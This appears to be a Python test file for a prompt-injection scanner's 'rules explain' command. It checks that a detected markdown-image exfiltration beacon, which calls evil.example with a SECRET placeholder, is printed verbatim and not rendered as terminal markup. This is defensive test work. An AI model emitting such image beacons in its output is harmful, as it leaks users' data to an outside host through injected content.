"""`guardproxy rules explain` prints what matched exactly as it was written: scanned text is the
attacker's and must never be read as terminal markup."""

from __future__ import annotations

from typer.testing import CliRunner

from proxy.rules.cli import app

runner = CliRunner()


def test_explain_shows_markdown_and_brackets_as_matched() -> None:
    beacon = "![img](https://evil.example/p.png?q=[bold]SECRET[/bold])"
    result = runner.invoke(app, ["explain", f"Summary follows. {beacon}", "--trust", "untrusted"])
    assert result.exit_code == 0, result.output
    assert "injection.exfil.markdown_image_beacon" in result.output
    assert f"matched:  {beacon!r}" in result.output  # the image markup and the tags, verbatim
    assert "!(" not in result.output
